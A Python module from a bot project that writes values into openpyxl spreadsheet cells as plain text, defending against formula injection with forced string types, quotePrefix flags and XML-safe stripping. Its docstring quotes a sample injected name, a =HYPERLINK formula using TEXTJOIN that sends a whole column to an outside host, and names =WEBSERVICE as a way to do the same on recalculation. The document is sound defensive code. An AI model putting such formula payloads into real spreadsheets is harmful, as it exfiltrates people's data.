"""Writing values into openpyxl cells so that text stays text (#12): every workbook chibo
produces (bot.render.workbook, bot.render.person_sheet) puts its values through `set_value`.

openpyxl turns any string that starts with "=" into a formula (a `<f>` element) and the
seven error words ("#N/A", "#REF!" …) into error cells, in write-only mode too. A member
named `=HYPERLINK("http://…?d="&TEXTJOIN(",",TRUE,C:C),"Xem")` became a live formula that
sends the whole column to a stranger when the admin clicks it; `=WEBSERVICE(…)` does it on
recalculation, without a click. So every string is written as a string: the cell's type
is set to "s" after the value (openpyxl then writes it as an inline string, never a
formula), whatever its first character.

Why not OWASP's leading apostrophe inside the value: in an .xlsx file the apostrophe is
not an escape but a character, so the name would be shown as "'=HYPERLINK…", not as
typed. Excel's own way to keep typed text as text is the cell format's `quotePrefix`
flag (what Excel records when one types '=1+1); it is set on strings that begin like a
formula or a DDE call (= + - @ |, their full-width forms, a tab or a line break), so the
cell shows exactly the text and stays text when someone edits it and presses Enter. Other
strings keep their plain format (fewer cell formats in the file).

Text is also stripped of characters XML cannot hold (bot.domain.text.xml_safe): one U+FFFF in a
name stored before normalize() dropped it made the whole file fail, and openpyxl refuses
control characters outright. Excel's limit of 32,767 characters a cell is kept.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell import Cell, WriteOnlyCell

from bot.domain.text import xml_safe

MAX_CELL_TEXT = 32_767  # Excel's limit for one cell
# What makes Excel (or LibreOffice) read typed text as a formula or a DDE call. Spaces
# before it do not protect it in every program, so they are looked through.
FORMULA_STARTS = frozenset("=+-@|\t\r\n＝＋－＠｜")


def looks_like_formula(text: str) -> bool:
    """Would a spreadsheet program take `text`, typed into a cell, for a formula?"""
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def set_value(cell: Any, value: object) -> Any:
    """Put `value` into an openpyxl cell (normal or write-only); a string always as text.
    Returns the cell."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    # Printable text holds nothing XML forbids (isprintable() is False for every control,
    # surrogate and noncharacter): the common case skips the regex. A tab or a line break
    # is not printable either, so such text is checked, and kept.
    text = (value if value.isprintable() else xml_safe(value))[:MAX_CELL_TEXT]
    cell.value = text  # openpyxl guesses a formula or an error code from the text …
    cell.data_type = "s"  # … so the type is set after the value: always a string
    if looks_like_formula(text):
        cell.quotePrefix = True
    return cell


def text_cell(ws: Any, value: object, style: str | None = None) -> Cell:
    """A cell for a write-only sheet's append(), its value set as `set_value` does. A named
    style is applied first: assigning one afterwards would clear quotePrefix (fonts and
    number formats may follow)."""
    cell = WriteOnlyCell(ws)
    if style:
        cell.style = style
    result: Cell = set_value(cell, value)
    return result


def put(ws: Any, row: int, column: int, value: object) -> Cell:
    """Set a cell of a normal sheet as `set_value` does; returns it for styling."""
    cell: Cell = set_value(ws.cell(row=row, column=column), value)
    return cell
